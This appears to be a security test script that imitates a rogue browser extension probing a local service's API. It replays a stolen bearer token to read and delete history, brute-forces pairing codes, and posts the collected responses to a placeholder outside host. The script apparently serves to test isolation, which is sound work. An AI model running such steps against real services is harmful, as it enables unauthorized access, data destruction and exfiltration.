"use strict";
// Another extension, with the very host permission that the real one has. TARGET, TOKEN and HOME are filled in.
(async () => {
  const results = {};
  const json = { "Content-Type": "application/json" };
  const ask = async (name, path, options = {}) => {
    try {
      const answer = await fetch("TARGET" + path, options);
      results[name] = `${answer.status} ${(await answer.text()).slice(0, 300)}`;
    } catch (error) {
      results[name] = `stopped: ${error.name}`;
    }
  };
  await ask("health", "/health");
  await ask("history", "/v1/history");
  await ask("read", "/v1/readings", { method: "POST", headers: json, body: JSON.stringify({ text: "Read this." }) });
  const stolen = { Authorization: "Bearer TOKEN" };
  await ask("stolen read", "/v1/readings", { method: "POST", headers: { ...json, ...stolen }, body: JSON.stringify({ text: "Read this." }) });
  await ask("stolen delete", "/v1/history", { method: "DELETE", headers: stolen });
  for (let n = 0; n < 6; n += 1) {
    await ask(`guess ${n}`, "/v1/pair", { method: "POST", headers: json, body: JSON.stringify({ code: "AAAAAAA" + n }) });
  }
  await fetch("HOME/result", { method: "POST", body: JSON.stringify(results) });
})();
